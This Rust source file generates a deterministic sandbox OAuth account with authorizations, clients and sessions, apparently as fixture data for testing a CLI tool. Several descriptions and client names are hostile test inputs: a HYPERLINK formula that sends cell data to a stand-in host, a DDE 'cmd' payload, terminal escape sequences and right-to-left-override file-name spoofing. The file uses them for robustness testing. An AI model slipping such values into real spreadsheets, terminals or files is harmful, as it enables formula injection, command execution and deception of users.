//! The built-in account, and generated authorizations for larger ones.
//!
//! The same seed gives the same account; only its dates are relative to the start. Its texts contain what breaks
//! scripts: formulas, quotes, line breaks, terminal escapes, options, other scripts.

use crate::sandbox::account::clock;
use crate::sandbox::account::mint::Mint;
use crate::sandbox::account::model::{Authz, Client, Grant, Session, SessionRef, Token};
use crate::sandbox::account::store::{CODE_LIFE, Store, User};

const MINUTE: i64 = 60;
const DAY: i64 = 24 * 3600;

/// The team whose authorizations `/teams/example-team/oauth/authorizations` lists.
const TEAM: &str = "example-team";

/// Description, scopes joined by commas, days since creation, seconds until expiry (negative: since). The first is the
/// authorization in use, the second the default API key.
const AUTHORIZATIONS: [(Option<&str>, &str, i64, Option<i64>); 15] = [
    (Some("oauth-tools sandbox"), "global", 1, None),
    (Some("Default API key"), "global", 2000, None),
    (Some("ci deploy 2023"), "read,write", 900, Some(-400 * DAY)),
    (Some("laptop (old)"), "global", 700, Some(-30 * DAY)),
    (Some("=HYPERLINK(\"https://example.com/?\"&A1,\"click\")"), "identity", 40, Some(-DAY)),
    (Some("-n"), "read", 8, Some(-10 * MINUTE)),
    (Some("one-off job, eu, \"priority\""), "write-protected", 0, Some(10 * MINUTE)),
    (Some("夜間バックアップ 🌙 données"), "read-protected", 27, Some(3 * DAY)),
    (Some("+1 555 0100 on-call pager"), "identity,read", 1, Some(29 * DAY)),
    (Some("terraform"), "global", 365, None),
    (Some("two lines:\n\"quoted\" and a back\\slash"), "read", 120, None),
    (Some("\u{1b}[31mred\u{1b}[0m \u{202e}txt.exe"), "read,write", 90, None),
    (Some("@ops rotation"), "write", 60, None),
    (None, "identity", 45, None),
    (Some(""), "global", 30, None),
];

const CLIENTS: [(&str, &str); 4] = [
    ("Example Dashboard", "https://dashboard.example.com/auth/heroku/callback"),
    ("Local development", "http://localhost:3000/auth/callback"),
    ("=cmd|' /C calc'!A0, \"x\"\n\u{1b}]0;owned\u{7}\u{202e}gpj", "https://example.org/cb?a=1&b=2"),
    ("Example CI", "https://ci.example.net/oauth"),
];

/// Description, days since creation, seconds until expiry. The first is the session in use.
const SESSIONS: [(Option<&str>, i64, Option<i64>); 4] = [
    (Some("Heroku CLI login from 192.0.2.7 with a desktop browser"), 1, Some(29 * DAY)),
    (Some("Session @ 203.0.113.9 \u{1b}[7m"), 12, Some(18 * DAY)),
    (None, 20, None),
    (Some("Session @ 198.51.100.23"), 60, Some(0)),
];

/// Returns the built-in account as it is at `now` (Unix seconds).
pub(in crate::sandbox) fn account(seed: u64, now: i64) -> Store {
    let mut mint = Mint::salted(seed, "built-in");
    let user = User {
        id: mint.uuid(),
        email: "you@example.com".to_owned(),
        full_name: Some("Your Name".to_owned()),
    };
    let mut store = Store::empty(mint, user);
    let sessions = SESSIONS.map(|session| add_session(&mut store, now, session));
    let clients = CLIENTS.map(|client| add_client(&mut store, now, client));
    for (i, (description, scope, age, left)) in AUTHORIZATIONS.into_iter().enumerate() {
        let long = "a long description goes on ".repeat(76); // 2 kB
        let description = if description == Some("") { Some(long.as_str()) } else { description };
        // By position, so that the authorization in use gets a token of the newest shape and the default key a plain UUID.
        let id = add_authz(&mut store, now, description, scope, age, left, i);
        match i {
            0 => {
                tie_to_session(&mut store, &id, &sessions[0]);
                store.current = Some(id);
            }
            1 => store.default = Some(id),
            _ => {}
        }
    }
    add_client_authz(&mut store, now, &clients[0], &sessions[1]);
    for description in ["team deploys", "team audit"] {
        let id = add_authz(&mut store, now, Some(description), "read", 100, None, 0);
        if let Some(mut authz) = store.remove(&id) {
            authz.team = Some(TEAM.to_owned());
            store.insert(authz);
        }
    }
    store.current_session = sessions.into_iter().next();
    store
}

/// Adds `count` authorizations: 30 % have expired, 20 % will, the others never do.
pub(in crate::sandbox) fn generate(store: &mut Store, now: i64, count: usize) {
    for n in 0..count {
        let word = store.mint.word();
        let age = i64::try_from(word % 1000).unwrap_or_default() + 1;
        let some = i64::try_from((word >> 16) % 60).unwrap_or_default() + 1;
        let left = match (word >> 32) % 10 {
            0..=2 => Some(-some * DAY),
            3..=4 => Some(some * DAY / 2),
            _ => None,
        };
        let scope = ["global", "read", "read,write", "identity"][(word >> 40) as usize % 4];
        let description = format!("generated {n:06}");
        let _ = add_authz(store, now, Some(&description), scope, age, left, (word >> 48) as usize);
    }
}

/// Adds an authorization without a client and returns its id; `shape` modulo 3 chooses the shape of its token.
fn add_authz(
    store: &mut Store,
    now: i64,
    description: Option<&str>,
    scope: &str,
    age: i64,
    left: Option<i64>,
    shape: usize,
) -> String {
    let created = now - age * DAY;
    let user = store.user.raw();
    let id = store.add_authz(created, None, |authz: &mut Authz| {
        authz.description = description.map(str::to_owned);
        authz.scope = scope.split(',').map(str::to_owned).collect();
        authz.user = user;
    });
    let mut token = store.fresh_token(left.map(|seconds| now + seconds));
    match shape % 3 {
        0 => {}
        1 => token.token = store.mint.uuid(),
        _ => token.token = format!("HRKU-{}", store.mint.uuid()),
    }
    store.set_token(&id, created, Some(token));
    id
}

fn tie_to_session(store: &mut Store, id: &str, session: &str) {
    if let Some(mut authz) = store.remove(id) {
        authz.session = Some(SessionRef { id: session.to_owned(), ..SessionRef::default() });
        store.insert(authz);
    }
}

fn add_client_authz(store: &mut Store, now: i64, client: &str, session: &str) {
    let client = store.clients.get(client).cloned();
    let created = now - 12 * DAY;
    let user = store.user.raw();
    let id = store.add_authz(created, client.as_ref(), |authz| {
        authz.description = client.as_ref().map(|c| c.name.clone());
        authz.scope = vec!["identity".to_owned(), "read".to_owned()];
        authz.user = user;
        // Its code was exchanged at once.
        if let Some(Grant { expires_at, .. }) = &mut authz.grant {
            *expires_at = Some(created + CODE_LIFE);
        }
    });
    let token = store.fresh_token(Some(now + 5 * 3600));
    store.set_token(&id, created, Some(token));
    let refresh = Token { expires_at: None, ..store.fresh_token(None) };
    store.update(&id, created, |authz| authz.refresh_token = Some(refresh));
    tie_to_session(store, &id, session);
}

fn add_client(store: &mut Store, now: i64, (name, redirect_uri): (&str, &str)) -> String {
    let age = 200 + i64::try_from(store.clients.len()).unwrap_or_default();
    let date = clock::rfc3339(now - age * DAY);
    let client = Client {
        id: store.fresh_id(),
        name: name.to_owned(),
        redirect_uri: redirect_uri.to_owned(),
        secret: store.mint.uuid(),
        ignores_delinquent: Some(false),
        created_at: date.clone(),
        updated_at: date,
        ..Client::default()
    };
    let id = client.id.clone();
    store.clients.insert(id.clone(), client);
    id
}

fn add_session(
    store: &mut Store,
    now: i64,
    (description, age, left): (Option<&str>, i64, Option<i64>),
) -> String {
    let date = clock::rfc3339(now - age * DAY);
    let session = Session {
        id: store.fresh_id(),
        description: description.map(str::to_owned),
        expires_at: left.map(|seconds| now + seconds),
        created_at: date.clone(),
        updated_at: date,
        ..Session::default()
    };
    let id = session.id.clone();
    store.sessions.insert(id.clone(), session);
    id
}
